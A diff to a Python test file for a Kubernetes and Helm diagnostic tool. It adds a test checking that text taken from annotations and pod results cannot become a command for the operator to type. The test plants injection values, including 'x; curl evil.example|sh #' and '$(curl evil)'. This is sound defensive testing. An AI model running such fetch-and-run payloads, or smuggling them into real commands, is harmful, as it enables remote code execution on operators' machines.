@@ -536,7 +536,7 @@ FAULTS: dict[str, Row] = {
         _ten_runs,
         "check dcgm-diag",
         "could not judge 3 of 10 pods: ENGINE_UNREACHABLE",
-        "kubectl get events --all-namespaces | grep ENGINE_UNREACHABLE",
+        "kubectl get events --all-namespaces | grep -e ENGINE_UNREACHABLE",
     ),
     "a sick node": (_sick, "Node node-b", "is sick since", "kubectl describe node node-b"),
     "no connector": (
@@ -744,6 +744,22 @@ def test_a_release_whose_history_was_kept_is_gone() -> None:
     _kept(world)
     [problem] = found(world)
     assert problem.what == "was kept of release preflight/earlier, which is gone"
+
+
+@pytest.mark.component  # renders the charts
+@pytest.mark.parametrize("note", ["release-name", "release-namespace"])
+def test_no_text_of_an_annotation_or_a_result_is_a_command_to_type(note: str) -> None:
+    world = World()
+    policy = world.read["ValidatingAdmissionPolicy"][0]
+    policy["metadata"]["annotations"][f"meta.helm.sh/{note}"] = "x; curl evil.example|sh #"
+    bound = world.read["ValidatingAdmissionPolicyBinding"]
+    bound[:] = [x for x in bound if x["spec"]["policyName"] != policy["metadata"]["name"]]
+    for i in range(10):
+        checked(world, f"pod-{i}", "mine", state=ended("inconclusive", "$(curl evil)", "mine"))
+    typed = [problem.do for problem in found(world)]
+    assert [do for do in typed if "evil.example" in do] == []
+    assert "helm -n NAMESPACE upgrade RELEASE CHART --reset-then-reuse-values" in typed
+    assert "kubectl get events --all-namespaces | grep -e '$(curl evil)'" in typed
 
 
 @pytest.mark.component  # renders the charts
